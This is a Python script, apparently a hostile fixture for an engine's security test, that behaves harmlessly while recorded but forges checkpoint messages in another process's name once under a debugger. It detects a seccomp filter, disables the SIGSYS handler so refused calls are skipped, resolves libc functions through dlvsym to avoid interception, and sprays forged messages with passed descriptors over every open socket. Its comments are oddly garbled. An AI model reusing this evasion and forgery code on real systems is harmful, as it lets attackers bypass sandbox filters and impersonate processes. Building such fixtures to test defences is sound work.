"""A program that is harmless when recorded. In the debugger it forges the engine's messages, with another's process id.

Written with ctypes, past all gates; `tests/engine/test_forged_messages.py` records it with the number of that process.
"""

import ctypes
import struct
import sys
from typing import Any

# The C library's function itself: found by its version, it is not led to the core, which would answer out of the log.
_FIND = ctypes.CDLL(None).dlvsym
_FIND.restype = ctypes.c_void_p
SYSTEM_CALL, SIGNAL = (
    ctypes.CFUNCTYPE(ctypes.c_long)(_FIND(None, name, b"GLIBC_2.2.5")) for name in (b"syscall", b"signal")
)
READ, OPEN, CLOSE, WRITE, DUP, DUP2, SENDMSG, SOCKETPAIR, READLINK = 0, 2, 3, 1, 32, 33, 46, 53, 89  # of x86-64


def call(number: int, *given: Any) -> int:
    """Make a system call."""
    made: int = SYSTEM_CALL(ctypes.c_long(number), *(ctypes.c_long(x) if isinstance(x, int) else x for x in given))
    return made


def number(value: int) -> bytes:
    """Encode a number as the engine does."""
    value <<= 1
    out = b"\x03"
    while value >= 128:
        out += bytes([value & 127 | 128])
        value >>= 7
    return out + bytes([value])


def send(fd: int, kind: bytes, payload: bytes, passed: int) -> None:
    """Send a message with a descriptor."""
    data = struct.pack("<I", len(payload) + 1) + kind + payload
    room = ctypes.create_string_buffer(data, len(data))
    parts = ctypes.create_string_buffer(struct.pack("QQ", ctypes.addressof(room), len(data)))
    control = ctypes.create_string_buffer(struct.pack("Qiiii", 20, 1, 1, passed, 0))
    head = struct.pack("QIxxxxQQQQixxxx", 0, 0, ctypes.addressof(parts), 1, ctypes.addressof(control), 24, 0)
    call(SENDMSG, fd, ctypes.create_string_buffer(head, len(head)), 0x4000)


def forge(victim: int) -> None:
    """Leave checkpoints that are that process."""
    text = ctypes.create_string_buffer(300)
    for fd in range(3, 70000):
        if call(READLINK, b"/proc/self/fd/%d" % fd, text, 299) < 0 or not text.raw.startswith(b"socket:"):
            continue
        for count in range(200_000, 900_000, 50_000):
            ends = (ctypes.c_int * 2)()
            call(SOCKETPAIR, 1, 1, 0, ends)
            send(fd, b"K", b"\x09\x03" + number(victim) + number(count) + number(1), ends[1])


status = ctypes.create_string_buffer(8192)
opened = call(OPEN, b"/proc/self/status", 0, 0)
call(READ, opened, status, 8191)
call(CLOSE, opened)
if b"Seccomp:\t2" in status.raw:
    handler = ctypes.c_void_p(_FIND(None, b"abs", b"GLIBC_2.2.5"))
    SIGNAL(31, handler)  # calls that the filter refuses are skipped
    forge(int(sys.argv[1]))
total = 0
for each in range(20_000):
    total += each
print("end")
